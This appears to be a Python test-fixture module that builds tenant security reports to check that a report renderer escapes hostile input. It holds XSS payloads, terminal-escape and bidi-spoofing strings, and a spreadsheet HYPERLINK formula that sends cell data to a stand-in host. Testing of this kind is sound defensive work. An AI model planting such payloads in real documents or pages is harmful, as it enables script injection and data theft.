"""Reports built in code for the renderer tests: the full check catalogue, findings in every
state and severity, and tenant-controlled strings as hostile as a tenant can make them."""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from datetime import UTC, datetime, timedelta
from typing import Any

from checks import ALL_CHECKS
from partnerguard.model import CheckReport, Finding, Report, ReportFinding, Severity, Status, SubjectType, TenantInfo
from partnerguard.render.history import FindingDates, TenantHistory
from partnerguard.storage.records import RunRecord

NOW = datetime(2025, 6, 1, 12, 0, tzinfo=UTC)
TENANT_ID = "7a3f9c2e-4b1d-4e8a-9f6c-2d5b8e1a0c73"
OTHER_TENANT_ID = "c0ffee00-1b2c-4d3e-8f90-a1b2c3d4e5f6"

# What a script from tenant data would do if it ever ran: mark the document.
PWNED = "document.documentElement.setAttribute('data-pwned','{}')"
HOSTILE_IMG = '<img src=x onerror="' + PWNED.format("img") + '">'
HOSTILE_SCRIPT = "<script>" + PWNED.format("script") + "</script>"
HOSTILE_ATTRIBUTE = '"><svg onload="' + PWNED.format("svg") + '">'
HOSTILE_CONTROLS = "Eve\x1b[2J\x1b[31mRED\r\nforged line\x00\x07"
HOSTILE_BIDI = "Mallory\u202egnp.exe\u2066\u200f"
HOSTILE_FORMULA = '=HYPERLINK("http://evil.invalid/?"&A1,"open")'
HOSTILE_LONG = "L" * 10_240
HOSTILE_STRINGS = (
    HOSTILE_IMG,
    HOSTILE_SCRIPT,
    HOSTILE_ATTRIBUTE,
    HOSTILE_CONTROLS,
    HOSTILE_BIDI,
    HOSTILE_FORMULA,
    HOSTILE_LONG,
)
# Characters that must never reach any output raw.
RAW_UNSAFE = ("\x1b", "\x00", "\x07", "\u202e", "\u2066", "\u200f")


def finding(
    subject_id: str,
    name: str,
    severity: Severity = Severity.HIGH,
    detail: str = "Not MFA capable.",
    subject_type: SubjectType = SubjectType.USER,
    evidence: Mapping[str, Any] | None = None,
) -> Finding:
    return Finding(subject_id, subject_type, name, detail, severity, evidence or {})


def report(
    findings: Mapping[str, Sequence[tuple[Finding, str]]] | None = None,
    *,
    tenant: TenantInfo | None = None,
    statuses: Mapping[str, Status] | None = None,
    evidence: Mapping[str, Mapping[str, Any]] | None = None,
    run_id: str = "8249061199999-0123456789",
) -> Report:
    """A report over the whole catalogue: `findings` maps a check id to (finding, state) pairs;
    a check with findings fails unless `statuses` says otherwise, the rest pass."""
    findings = findings or {}
    checks = []
    for check in ALL_CHECKS:
        metadata = check.METADATA
        items = tuple(ReportFinding(f, state) for f, state in findings.get(metadata.id, ()))
        status = (statuses or {}).get(metadata.id, Status.FAIL if items else Status.PASS)
        reason = None
        reason_code = None
        if status is Status.NOT_ASSESSED:
            reason, reason_code = "Needs Microsoft Entra ID P1.", "licence:AAD_PREMIUM"
        elif status is Status.ERROR:
            reason, reason_code = "Graph answered 500 three times.", "error:graph_error"
        checks.append(
            CheckReport(
                id=metadata.id,
                title=metadata.title,
                severity=metadata.severity,
                status=status,
                reason=reason,
                reason_code=reason_code,
                remediation=metadata.remediation,
                findings=items,
                evidence=(evidence or {}).get(metadata.id, {}),
            )
        )
    return Report(
        tenant=tenant or TenantInfo(TENANT_ID, "Contoso Partner Services", "partner"),
        run_id=run_id,
        started=NOW,
        finished=NOW + timedelta(minutes=2),
        checks=tuple(checks),
    )


def hostile_report() -> Report:
    """Every hostile string as a tenant name, display names, details and evidence."""
    users = [
        (finding(f"user-{index}", text, Severity.HIGH, detail=text, evidence={"userPrincipalName": text}), "new")
        for index, text in enumerate(HOSTILE_STRINGS)
    ]
    admin = finding("admin-1", "Alex Admin", Severity.CRITICAL, detail="Not MFA capable. Holds an admin role.")
    excepted = finding(
        "user-excepted",
        "Service Account",
        evidence={
            "exception": {
                "id": "ex-1",
                "reason": HOSTILE_SCRIPT,
                "accepted_by": "ciso@contoso.example",
                "expires": "2025-07-01",
            }
        },
    )
    app = finding(
        "app-1",
        HOSTILE_ATTRIBUTE,
        Severity.MEDIUM,
        detail="Client secret " + HOSTILE_CONTROLS,
        subject_type=SubjectType.APPLICATION,
    )
    return report(
        {
            "mfa.registration": [(admin, "open"), *users, (excepted, "excepted")],
            "apps.client-secrets": [(app, "open")],
        },
        tenant=TenantInfo(TENANT_ID, HOSTILE_IMG + HOSTILE_BIDI, "partner"),
        statuses={"legacy-auth.blocked": Status.NOT_ASSESSED, "gdap.expiring": Status.ERROR},
        evidence={"mfa.registration": {"in_scope_users": 40, "assessed_users": 40, "mfa_capable_users": 31}},
    )


def runs(tenant_id: str, count: int, failed_without_summary: Sequence[int] = ()) -> list[RunRecord]:
    """`count` completed runs, newest first (as `list_runs` returns them), 6 hours apart."""
    records = []
    for index in range(count):
        finished = NOW - timedelta(hours=6 * index)
        if index in failed_without_summary:
            records.append(RunRecord(tenant_id, f"run-{index:02d}", "failed", finished=finished, summary=None))
            continue
        fail = index % 3
        records.append(
            RunRecord(
                tenant_id,
                f"run-{index:02d}",
                "succeeded",
                finished=finished,
                summary={"pass": 8 - fail, "fail": fail + 1, "not_assessed": 1, "error": 0},
            )
        )
    return records


def history(tenant_id: str = TENANT_ID, run_count: int = 8) -> TenantHistory:
    first = NOW - timedelta(days=3)
    return TenantHistory(
        runs=tuple(runs(tenant_id, run_count, failed_without_summary=(2,))),
        finding_dates={("mfa.registration", "admin-1"): FindingDates(first, NOW)},
    )
